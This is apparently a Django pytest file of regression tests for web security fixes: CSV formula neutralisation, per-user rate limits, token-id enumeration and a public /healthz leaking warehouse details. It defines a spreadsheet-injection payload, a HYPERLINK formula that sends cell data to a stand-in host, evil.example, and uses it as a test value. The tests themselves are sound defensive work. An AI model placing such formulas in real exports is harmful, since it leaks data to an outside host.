"""Issue 18, the Low list (web): CSV exports neutralise spreadsheet formulas, rate limits are
per user (not per token) and cover the UI's queries, the token-id endpoint does not reveal
which ids exist, and the public /healthz shows no warehouse path, user or host."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.test import Client

from registry.services.access import role_grant, token_create
from registry.services.audit import audit_event_create
from registry.services.definitions import definitions_sync
from semantic.warehouse.config import parse_warehouse_url
from tests.conftest import ROOT, demo_warehouse_at

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def demo_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("warehouse") / "demo.duckdb"
    demo_warehouse_at(path, events=3000, seed=7)
    return path


@pytest.fixture
def warehouse(settings: Any, demo_warehouse: Path, tmp_path: Path) -> Path:
    path = tmp_path / "wh.duckdb"
    shutil.copy(demo_warehouse, path)
    settings.WAREHOUSE = parse_warehouse_url(f"duckdb:///{path}", base_dir=ROOT)
    definitions_sync(root=ROOT / "fixtures", acting_user=None)
    return path


@pytest.fixture(autouse=True)
def _fresh_counters() -> Iterator[None]:
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def admin_client(client: Client, django_user_model: Any) -> Client:
    admin = django_user_model.objects.create_user("ada")
    role_grant(user=admin, role="admin")
    client.force_login(admin)
    return client


def test_explore_csv_neutralises_spreadsheet_formulas(
    admin_client: Client, warehouse: Path
) -> None:
    """Bug: a dimension value such as =HYPERLINK(…) was exported as a live formula."""
    con = duckdb.connect(str(warehouse))
    con.execute("UPDATE accounts SET plan = ? WHERE plan = 'pro'", [FORMULA])
    con.execute("UPDATE accounts SET plan = '@SUM(1)' WHERE plan = 'free'")
    con.close()
    response = admin_client.get("/explore.csv", {"metrics": "revenue", "group_by": "account__plan"})
    assert response.status_code == 200, response.content
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    plans = {row[0] for row in rows[1:]}
    assert "'" + FORMULA in plans and "'@SUM(1)" in plans
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_audit_log_csv_neutralises_formulas(db: None) -> None:
    """`tally audit-log --format csv`: object names are user text too."""
    audit_event_create(actor=None, action="login.failed", object_kind="user", object_name=FORMULA)
    out = io.StringIO()
    call_command("audit_log", format="csv", stdout=out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_rate_limits_are_per_user_whatever_the_token(
    client: Client, django_user_model: Any, settings: Any, warehouse: Path
) -> None:
    """Bug: each token had its own budget, so minting tokens multiplied the rate limit."""
    settings.TALLY_RATE_LIMITS = {"compile": "2/min", "query": "2/min"}
    user = django_user_model.objects.create_user("ana")
    role_grant(user=user, role="analyst")
    tokens = [token_create(acting_user=user, user=user, scopes="compile").raw for _ in range(3)]
    body = {"metrics": ["revenue"]}
    statuses = [
        client.post("/api/v1/compile", body, content_type="application/json",
                    HTTP_AUTHORIZATION=f"Bearer {raw}").status_code
        for raw in tokens
    ]  # fmt: skip
    assert statuses == [200, 200, 429]


def test_explore_and_its_csv_are_rate_limited(
    admin_client: Client, settings: Any, warehouse: Path
) -> None:
    """Bug: the UI's Explore page and CSV export ran warehouse queries without any limit."""
    settings.TALLY_RATE_LIMITS = {"compile": "100/min", "query": "2/min"}
    params = {"metrics": "revenue", "group_by": "account__plan"}
    assert admin_client.get("/explore", params).status_code == 200
    assert admin_client.get("/explore.csv", params).status_code == 200
    refused = admin_client.get("/explore.csv", params)
    assert refused.status_code == 429
    assert b"too many query requests" in refused.content


def test_the_token_id_endpoint_does_not_reveal_which_ids_exist(
    client: Client, django_user_model: Any
) -> None:
    """Bug: someone else's token id answered differently from a missing one."""
    owner = django_user_model.objects.create_user("owner")
    role_grant(user=owner, role="analyst")
    theirs = token_create(acting_user=owner, user=owner, scopes="read").token
    other = django_user_model.objects.create_user("other")
    client.force_login(other)
    missing = theirs.pk + 1000

    def answer(token_id: int) -> tuple[int, str]:
        response = client.get(f"/api/v1/tokens/{token_id}")
        return response.status_code, response.content.decode().replace(str(token_id), "ID")

    assert answer(theirs.pk) == answer(missing)
    assert answer(missing)[0] == 404
    assert client.delete(f"/api/v1/tokens/{theirs.pk}").status_code == 404


def test_public_healthz_shows_no_warehouse_path_user_or_host(
    client: Client, settings: Any, tmp_path: Path, django_user_model: Any
) -> None:
    """Bug: the unauthenticated /healthz printed the warehouse's path, user and host."""
    settings.CELERY_TASK_ALWAYS_EAGER = True
    settings.WAREHOUSE = parse_warehouse_url(
        "postgresql://tally_reader@127.0.0.1:1/secretdb", base_dir=tmp_path
    )
    public = client.get("/healthz")
    assert public.status_code == 503
    text = public.content.decode()
    assert "tally_reader" not in text and "127.0.0.1" not in text and "secretdb" not in text
    assert public.json()["checks"]["warehouse"] == {
        "ok": False,
        "latency_ms": public.json()["checks"]["warehouse"]["latency_ms"],
    }
    client.force_login(django_user_model.objects.create_superuser("root"))
    assert "detail" in client.get("/healthz").json()["checks"]["warehouse"]
